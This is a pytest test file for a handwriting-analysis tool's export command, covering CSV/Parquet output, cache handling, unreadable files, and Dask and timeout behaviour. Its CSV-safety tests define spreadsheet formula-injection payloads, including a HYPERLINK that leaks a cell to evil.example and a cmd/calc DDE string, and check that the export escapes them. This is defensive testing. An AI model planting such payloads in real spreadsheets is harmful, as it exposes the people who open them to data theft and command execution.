"""``kinewrite export``: a real study of simulated sessions, exported through the real command
line, checked against the session files (cached and recomputed features), locally and on a
Dask cluster."""

import csv
import hashlib
import io
import math
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import h5py
import numpy as np
import pandas as pd
import pytest

from kinewrite import ANALYSIS_VERSION, extract_features, feature_names
from kinewrite.cli import main
from kinewrite.cli.export import ProgressBar
from kinewrite.export import (
    ExportOptions,
    collect_rows,
    escape_formula,
    export_columns,
    rows_to_frame,
    session_rows,
)
from kinewrite.export.executors import isolated_rows_or_problem
from kinewrite.simulate import simulate_trial
from kinewrite.storage.feature_row import write_features
from kinewrite.storage.reader import load_session
from kinewrite.storage.schema import STATE_HOVER, STATE_TOUCH
from kinewrite.storage.study import open_study
from kinewrite.storage.writer import SessionWriter
from kinewrite.trial_features import finish_trial

CLI = [sys.executable, "-m", "kinewrite.cli"]
TASKS = ("loops", "spiral", "sentence")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
#: Metadata fields of P01's second session, each a formula-injection attempt.
INJECTIONS = {"site": "@SUM(1+1)*cmd|' /C calc'!A0", "protocol": "-2+3", "device": "\tTAB",
              "stylus": "+41 22 000", "eyes": "\rCR"}
SECRET = "Jane Example, phone 555"


def _trial(writer, task, seed, *, pen_up=False, empty=False):
    writer.begin_trial(task, nominal_rate_hz=133.0, input_kind="simulated",
                       channels=("t", "x", "y", "pressure", "state"))
    if not empty:
        rec = simulate_trial(task, 3.0, seed=seed, tremor_hz=6.0, tremor_mm=0.2).recording
        state = np.full(rec.n_samples, STATE_HOVER) if pen_up else \
            np.where(rec.pen_down, STATE_TOUCH, STATE_HOVER)
        writer.append(t=rec.t, x=rec.x, y=rec.y, pressure=rec.pressure, state=state)
    finish_trial(writer, "complete")


def _build(root: Path) -> Path:
    """3 patients x 2 sessions x 3 tasks, plus a redo (superseded), an empty and a pen-up
    trial; notes everywhere (never exported), formula text in some metadata."""
    study = root / "study"
    for p, code in enumerate(("P01", "P02", "P03")):
        for s in range(2):
            meta = {"hand": "right", "operator": HYPERLINK if (p, s) == (0, 0) else "op-7",
                    "notes": SECRET}
            if (p, s) == (0, 1):
                meta.update(INJECTIONS)
            with SessionWriter.create(study, code, meta) as w:
                for k, task in enumerate(TASKS):
                    _trial(w, task, seed=100 * p + 10 * s + k)
                if (p, s) == (1, 0):  # loops redone: trial 001 superseded by 004
                    _trial(w, "loops", seed=999)
                    w.supersede("001", by="004")
                if (p, s) == (2, 1):
                    _trial(w, "loops", seed=0, empty=True)
                    _trial(w, "lines", seed=5, pen_up=True)
            time.sleep(0.002)  # distinct creation times
    return study


@pytest.fixture(scope="module")
def study(tmp_path_factory) -> Path:
    return _build(tmp_path_factory.mktemp("export"))


@pytest.fixture
def study_copy(study, tmp_path) -> Path:
    return Path(shutil.copytree(study, tmp_path / "study"))


def _read(path: Path) -> pd.DataFrame:
    exact = {} if int(pd.__version__.split(".")[0]) >= 3 else {"float_precision": "round_trip"}
    return pd.read_csv(path, **exact)


def _export(*args: str) -> tuple[int, str, str]:
    """In-process ``kinewrite export``; returns (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    saved = sys.stdout, sys.stderr
    sys.stdout, sys.stderr = out, err
    try:
        code = main(["export", *args])
    finally:
        sys.stdout, sys.stderr = saved
    return code, out.getvalue(), err.getvalue()


def _same(a: float, b: float) -> bool:
    return (math.isnan(a) and math.isnan(b)) or a == b


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


# ---------------------------------------------------------------------------- the table


def test_csv_export_rows_columns_order_and_cached_values(study, tmp_path):
    out = tmp_path / "features.csv"
    r = subprocess.run([*CLI, "export", str(study), "-o", str(out), "--workers", "2"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert r.stderr == ""  # no progress bar when stderr is not a terminal
    assert r.stdout.strip() == f"{out}: 20 trials from 6 session files of 3 patients"
    text = out.read_text(encoding="utf-8")
    assert SECRET not in text and "op-7" not in text and "right" not in text  # not asked for
    assert str(study) not in text  # no absolute path
    table = _read(out)
    assert list(table.columns) == export_columns()
    assert list(table.columns[:25]) == [
        "patient_code", "session_id", "session_date", "session_created", "session_file",
        "trial", "task", "protocol_task", "trial_status", "n_samples", "analysis_version",
        "analysis_error",
        "input_kind", "check_status", "check_findings", "feedback_mode", "feedback_threshold",
        "feedback_threshold_unit", "guide_shown", "adds_pct", "wcrs",
        "days_since_botulinum_toxin", "days_since_training_start",
        "duration_s", "sample_rate_hz"]
    assert len(table) == 20  # 18 + the redo + the empty and pen-up trials; superseded left out
    keys = list(zip(table.patient_code, table.session_created, table.session_id, table.trial,
                    strict=True))
    assert keys == sorted(keys)
    assert (table.trial_status == "complete").all()
    assert (table.session_date == table.session_created.str[:10]).all()
    assert (table.analysis_version.astype(str) == ANALYSIS_VERSION).all()
    for row in table.itertuples(index=False):
        trial = load_session(study / row.session_file).trial(f"{row.trial:03d}")
        assert row.task == trial.task and row.n_samples == trial.n_samples
        if trial.features is None:
            continue
        assert pd.isna(row.analysis_error)
        for name in feature_names():
            assert _same(getattr(row, name), trial.features.get(name, math.nan)), name


def test_unanalyzable_trials_are_rows_with_nan_and_the_reason(study, tmp_path):
    out = tmp_path / "t.csv"
    assert _export(str(study), "-o", str(out), "--workers", "1")[0] == 0
    table = _read(out)
    bad = table[table.analysis_error.notna()].set_index("task")
    assert sorted(bad.index) == ["lines", "loops"]
    assert bad.loc["loops", "analysis_error"] == "trial holds no sample"
    assert bad.loc["loops", "n_samples"] == 0
    assert "pen never touches" in bad.loc["lines", "analysis_error"]
    assert bad.loc["lines", "n_samples"] > 300
    assert bad[feature_names()].isna().all().all()


def test_stale_cache_is_recomputed_valid_cache_reused_study_untouched(study_copy, tmp_path):
    path = sorted((study_copy / "P01").glob("session-*.h5"))[0]
    stale_bogus = {n: 1234.5 for n in feature_names("spiral")}
    valid_bogus = {n: -7.0 for n in feature_names("loops")}
    with h5py.File(path, "r+") as f:
        assert f["trials/002"].attrs["task"] == "spiral"
        write_features(f["trials/002"], stale_bogus, version="0")  # another analysis version
        write_features(f["trials/001"], valid_bogus, version=ANALYSIS_VERSION)
    before = _digest(study_copy)
    session = load_session(path)
    fresh = {t.name: extract_features(t.recording, task=t.task) for t in session.trials}
    out = tmp_path / "t.csv"

    assert _export(str(study_copy), "-o", str(out), "--workers", "2")[0] == 0
    rows = _read(out).set_index(["session_file", "trial"])
    name = path.relative_to(study_copy).as_posix()
    for feature in feature_names():
        assert _same(rows.loc[(name, 2), feature], fresh["002"].get(feature, math.nan))
        assert _same(rows.loc[(name, 1), feature], valid_bogus.get(feature, math.nan))

    assert _export(str(study_copy), "-o", str(out), "--workers", "1", "--recompute")[0] == 0
    rows = _read(out).set_index(["session_file", "trial"])
    for feature in feature_names():
        assert _same(rows.loc[(name, 1), feature], fresh["001"].get(feature, math.nan))
    assert _digest(study_copy) == before  # export never writes into the study


def test_tasks_filter_and_superseded(study, tmp_path):
    out = tmp_path / "t.csv"
    code, _, err = _export(str(study), "-o", str(out), "--workers", "1", "--tasks",
                           "loops,spiral", "--include-superseded")
    assert code == 0, err
    table = _read(out)
    assert set(table.task) == {"loops", "spiral"}
    assert len(table) == 6 + 6 + 2  # one per session and task (one superseded); redo; empty
    superseded = table[table.trial_status == "superseded"]
    assert len(superseded) == 1 and superseded.iloc[0].patient_code == "P02"
    assert superseded.iloc[0].trial == 1


def test_no_matching_trial_writes_a_header_only_table(study, tmp_path):
    out = tmp_path / "t.csv"
    code, stdout, _ = _export(str(study), "-o", str(out), "--workers", "1", "--tasks", "free")
    assert code == 0 and "0 trials" in stdout
    assert out.read_text().strip() == ",".join(export_columns())


# ----------------------------------------------------------------------------- CSV safety


def test_formula_text_is_escaped_numbers_are_not(study, tmp_path):
    out = tmp_path / "t.csv"
    fields = ["operator", "hand", *INJECTIONS]
    code, _, err = _export(str(study), "-o", str(out), "--workers", "1", "--metadata",
                           ",".join(fields))
    assert code == 0, err
    with out.open(newline="", encoding="utf-8") as fh:
        records = list(csv.DictReader(fh))
    header = list(records[0])
    assert header == export_columns(fields)
    assert "notes" not in header
    p01 = [r for r in records if r["patient_code"] == "P01"]
    assert p01[0]["operator"] == "'" + HYPERLINK and p01[0]["hand"] == "right"
    assert p01[-1]["operator"] == "op-7"
    for field, value in INJECTIONS.items():
        assert p01[-1][field] == "'" + value
        assert all(r[field] == "" for r in records if r["patient_code"] != "P01")
    ldlj = [r["ldlj_median"] for r in records if r["ldlj_median"]]
    assert ldlj and all(v.startswith("-") and float(v) < 0 for v in ldlj)  # numbers stay
    numeric = ["trial", "n_samples", *feature_names()]
    assert not any(r[c].startswith("'") for r in records for c in numeric)


@pytest.mark.parametrize(("text", "escaped"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("WC-017", "WC-017"), ("", ""), (" =1", " =1"), ("a=b", "a=b"),
])
def test_escape_formula(text, escaped):
    assert escape_formula(text) == escaped


# ------------------------------------------------------------------------------- Parquet


def test_parquet_round_trip_keeps_exact_text_and_types(study, tmp_path):
    pytest.importorskip("pyarrow")
    out = tmp_path / "t.parquet"
    code, _, err = _export(str(study), "-o", str(out), "--workers", "1", "--metadata",
                           "operator,hand")
    assert code == 0, err
    back = pd.read_parquet(out)
    options = ExportOptions(str(study), metadata=("operator", "hand"))
    rows, problems = collect_rows([s.path for s in open_study(study).sessions], options,
                                  workers=1)
    assert problems == []
    pd.testing.assert_frame_equal(back, rows_to_frame(rows, options.metadata))
    assert back.loc[0, "operator"] == HYPERLINK  # Parquet holds the exact text
    assert back["trial"].dtype == np.int64 and back["ldlj_median"].dtype == np.float64


# ------------------------------------------------------------------------------ bad files


def test_unreadable_session_files_are_named_others_exported_exit_2(study_copy, tmp_path):
    good = sorted((study_copy / "P01").glob("session-*.h5"))[0]
    (study_copy / "P07").mkdir()
    junk = study_copy / "P07" / "session-20260101T000000Z-00000000.h5"
    junk.write_bytes(b"\x89HDF\r\n\x1a\n" + bytes(range(256)) * 8)
    (study_copy / "P08").mkdir()
    foreign = study_copy / "P08" / "session-20260101T000000Z-11111111.h5"
    with h5py.File(foreign, "w") as f:
        f["data"] = np.arange(3)
    truncated = study_copy / "P09" / "session-20260101T000000Z-22222222.h5"
    truncated.parent.mkdir()
    truncated.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    out = tmp_path / "t.csv"
    r = subprocess.run([*CLI, "export", str(study_copy), "-o", str(out), "--workers", "2"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 2
    lines = r.stderr.splitlines()
    assert "Traceback" not in r.stderr
    assert all(line.startswith("kinewrite: ") for line in lines)
    for bad in (junk, foreign, truncated):
        assert sum(str(bad) in line for line in lines) == 1, (bad, lines)
    assert lines[-1] == f"kinewrite: 3 session file(s) could not be read and are not in {out}"
    assert len(lines) == 4
    assert len(_read(out)) == 20  # every good session exported


def _bad_files(study_copy: Path) -> list[Path]:
    """Three unreadable session files added to the study: junk, foreign HDF5, truncated."""
    good = sorted((study_copy / "P01").glob("session-*.h5"))[0]
    bad = []
    for code, data in (("P07", b"\x89HDF\r\n\x1a\n" + bytes(range(256)) * 8),
                       ("P09", good.read_bytes()[: good.stat().st_size // 2])):
        (study_copy / code).mkdir()
        bad.append(study_copy / code / "session-20260101T000000Z-00000000.h5")
        bad[-1].write_bytes(data)
    (study_copy / "P08").mkdir()
    bad.append(study_copy / "P08" / "session-20260101T000000Z-11111111.h5")
    with h5py.File(bad[-1], "w") as f:
        f["data"] = np.arange(3)
    return bad


def test_isolated_export_equals_the_plain_one_bad_files_included(study_copy, tmp_path):
    """--isolate reads every file in a child of its own: same table, same problem lines."""
    _bad_files(study_copy)
    outputs = {}
    for mode, extra in (("plain", ["--workers", "2"]),
                        ("isolated", ["--workers", "2", "--isolate", "--timeout", "30"])):
        out = tmp_path / f"{mode}.csv"
        r = subprocess.run([*CLI, "export", str(study_copy), "-o", str(out), *extra],
                           capture_output=True, text=True, timeout=180)
        assert r.returncode == 2 and "Traceback" not in r.stderr
        outputs[mode] = (out.read_bytes(), sorted(r.stderr.replace(str(out), "OUT").splitlines()))
    assert outputs["isolated"] == outputs["plain"]
    assert len(outputs["plain"][1]) == 4


def _rows_sleeping(path: str, options: ExportOptions) -> list:
    time.sleep(3600)
    return []


def _rows_dying(path: str, options: ExportOptions) -> list:
    os._exit(3)


def test_isolated_export_turns_a_hang_or_a_crash_into_the_files_problem(study):
    path = str(sorted((study / "P01").glob("session-*.h5"))[0])
    options = ExportOptions(study_dir=str(study))
    start = time.monotonic()
    rows, problem = isolated_rows_or_problem(path, options, 1.0, rows_of=_rows_sleeping)
    assert rows == [] and problem.startswith(f"{path}: reading it did not finish in 1 s")
    assert time.monotonic() - start < 15
    rows, problem = isolated_rows_or_problem(path, options, 30.0, rows_of=_rows_dying)
    assert rows == [] and problem == f"{path}: reading it crashed the reader (exit code 3)"
    rows, problem = isolated_rows_or_problem(path, options, 30.0)
    assert problem is None
    pd.testing.assert_frame_equal(pd.DataFrame(rows), pd.DataFrame(session_rows(path, options)))


def test_isolate_is_local_only(study, tmp_path):
    code, _, err = _export(str(study), "-o", str(tmp_path / "t.csv"), "--isolate",
                           "--scheduler", "tcp://127.0.0.1:9")
    assert code == 2 and len(err.splitlines()) == 1 and "--isolate" in err
    code, _, err = _export(str(study), "-o", str(tmp_path / "t.csv"), "--isolate",
                           "--timeout", "0")
    assert code == 2 and "--timeout must be > 0 s" in err
    assert not (tmp_path / "t.csv").exists()


@pytest.mark.parametrize("value", ["-1", "0", "nan"])
def test_a_connect_timeout_that_is_not_positive_is_the_options_one_line(study, tmp_path, value,
                                                                        capsys):
    """Refused by the parser, naming the option, before the export reaches Dask (whose own
    words were "Timeout value out of range", naming nothing)."""
    with pytest.raises(SystemExit) as stop:
        main(["export", str(study), "-o", str(tmp_path / "t.csv"), "--scheduler",
              "tcp://127.0.0.1:9", "--connect-timeout-s", value])
    assert stop.value.code == 2
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert "--connect-timeout-s" in last and "must be" in last, last
    assert not (tmp_path / "t.csv").exists()


def test_study_of_only_bad_files_writes_nothing(tmp_path):
    (tmp_path / "s" / "P1").mkdir(parents=True)
    (tmp_path / "s" / "P1" / "session-x.h5").write_text("not hdf5")
    out = tmp_path / "t.csv"
    code, _, err = _export(str(tmp_path / "s"), "-o", str(out))
    assert code == 2 and not out.exists()
    assert err.splitlines()[-1].endswith("no readable session file; nothing exported")


@pytest.mark.parametrize(("case", "message"), [
    ("missing", "no such study folder"),
    ("file", "not a folder"),
    ("empty", "no session files"),
    ("extension", "output must end in .csv or .parquet"),
    ("no_dir", "does not exist"),
    ("metadata", "unknown metadata field(s) name"),
    ("task", "unknown task(s) writing"),
])
def test_bad_arguments_one_line_exit_2(study, tmp_path, case, message):
    (tmp_path / "empty").mkdir()
    (tmp_path / "file.txt").write_text("x")
    target, out, extra = str(study), str(tmp_path / "t.csv"), []
    target = {"missing": str(tmp_path / "nope"), "file": str(tmp_path / "file.txt"),
              "empty": str(tmp_path / "empty")}.get(case, target)
    out = {"extension": str(tmp_path / "t.xlsx"),
           "no_dir": str(tmp_path / "no" / "t.csv")}.get(case, out)
    extra = {"metadata": ["--metadata", "hand,name"], "task": ["--tasks", "writing"]}.get(
        case, extra)
    code, stdout, err = _export(target, "-o", out, *extra)
    assert code == 2 and stdout == ""
    assert len(err.splitlines()) == 1 and err.startswith("kinewrite: ") and message in err
    assert not Path(out).exists()


def test_zero_workers_is_an_argument_error(study, tmp_path):
    r = subprocess.run([*CLI, "export", str(study), "-o", str(tmp_path / "t.csv"),
                        "--workers", "0"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and len(r.stderr.splitlines()) == 1
    assert "must be at least 1" in r.stderr


@pytest.mark.parametrize(("module", "args", "hint"), [
    ("pyarrow", ["-o", "t.parquet"], "pip install 'kinewrite[export]'"),
    ("distributed", ["-o", "t.csv", "--scheduler", "tcp://127.0.0.1:9"],
     "pip install 'kinewrite[export]'"),
])
def test_missing_optional_package_one_line_exit_2(study, tmp_path, monkeypatch, module, args,
                                                  hint):
    monkeypatch.setitem(sys.modules, module, None)  # import fails as if not installed
    monkeypatch.chdir(tmp_path)
    code, _, err = _export(str(study), *args)
    assert code == 2 and err.strip().endswith(hint) and len(err.splitlines()) == 1
    assert list(tmp_path.iterdir()) == []


def test_failed_write_keeps_the_previous_file_and_leaves_no_temp(study, tmp_path, monkeypatch):
    out = tmp_path / "t.csv"
    out.write_text("previous export\n")

    def broken(self, path, **kwargs):
        Path(path).write_text("half a tab")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", broken)
    code, _, err = _export(str(study), "-o", str(out), "--workers", "1")
    assert code == 2 and f"{out}: cannot write: the disk is full" in err
    assert out.read_text() == "previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


# ----------------------------------------------------------------------------------- Dask


def test_dask_cluster_gives_the_same_table_as_local_processes(study, tmp_path):
    distributed = pytest.importorskip("distributed")
    local, remote = tmp_path / "local.csv", tmp_path / "dask.csv"
    args = ["--metadata", "operator,hand", "--include-superseded"]
    code, _, err = _export(str(study), "-o", str(local), "--workers", "2", *args)
    assert code == 0, err
    with distributed.LocalCluster(n_workers=2, threads_per_worker=1, processes=False,
                                  protocol="tcp", dashboard_address=None) as cluster:
        assert cluster.scheduler_address.startswith("tcp://")
        code, stdout, err = _export(str(study), "-o", str(remote), "--scheduler",
                                    cluster.scheduler_address, *args)
    assert code == 0, err
    assert "21 trials from 6 session files" in stdout
    pd.testing.assert_frame_equal(_read(remote), _read(local))
    assert remote.read_bytes() == local.read_bytes()


@pytest.mark.parametrize(("address", "message"), [
    ("tcp://127.0.0.1:9", "cannot connect to Dask scheduler tcp://127.0.0.1:9"),
    ("127.0.0.1:9", "cannot connect to Dask scheduler tcp://127.0.0.1:9"),
    ("tcp://localhost", "bad Dask scheduler address"),
])
def test_unreachable_scheduler_fails_fast_exit_2(study, tmp_path, address, message):
    pytest.importorskip("distributed")
    out = tmp_path / "t.csv"
    start = time.monotonic()
    code, _, err = _export(str(study), "-o", str(out), "--scheduler", address)
    assert time.monotonic() - start < 3.0
    assert code == 2 and len(err.splitlines()) == 1 and message in err
    assert not out.exists()


def test_a_port_that_never_answers_in_dask_fails_within_the_timeout_exit_2(study, tmp_path):
    """distributed.Client waits forever for a server that accepts and never answers (its
    timeout bounds the connection only): the export gives up after the timeout + 1 s."""
    pytest.importorskip("distributed")
    import socket

    out = tmp_path / "t.csv"
    with socket.socket() as server:  # the kernel accepts connections; nobody answers
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        address = f"tcp://127.0.0.1:{server.getsockname()[1]}"
        start = time.monotonic()
        r = subprocess.run([*CLI, "export", str(study), "-o", str(out), "--scheduler",
                            address, "--connect-timeout-s", "1"],
                           capture_output=True, text=True, timeout=120)
        elapsed = time.monotonic() - start
    assert r.returncode == 2 and len(r.stderr.splitlines()) == 1, r.stderr
    assert f"cannot connect to Dask scheduler {address}: no Dask answer within 1 s" in r.stderr
    assert elapsed < 30  # interpreter start and imports, then 1 s + 1 s, not forever
    assert not out.exists()


def test_scheduler_and_workers_are_exclusive(study, tmp_path):
    with pytest.raises(SystemExit) as exc:
        main(["export", str(study), "-o", str(tmp_path / "t.csv"), "--workers", "2",
              "--scheduler", "tcp://127.0.0.1:9"])
    assert exc.value.code == 2


# ------------------------------------------------------------------------------- progress


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_bar_on_a_terminal_only():
    tty, pipe = _Terminal(), io.StringIO()
    for stream in (tty, pipe):
        bar = ProgressBar(30, stream=stream, min_interval_s=0.0)
        for n in (10, 10, 10):
            bar.update(n)
        bar.close()
    assert pipe.getvalue() == ""
    frames = tty.getvalue().split("\r")[1:]
    assert len(frames) == 3 and frames[-1].endswith("\n")
    assert "10/30 trials" in frames[0] and "/s" in frames[0] and "ETA 0:0" in frames[0]
    assert frames[-1].startswith("[" + "#" * ProgressBar.WIDTH + "] 30/30 trials")
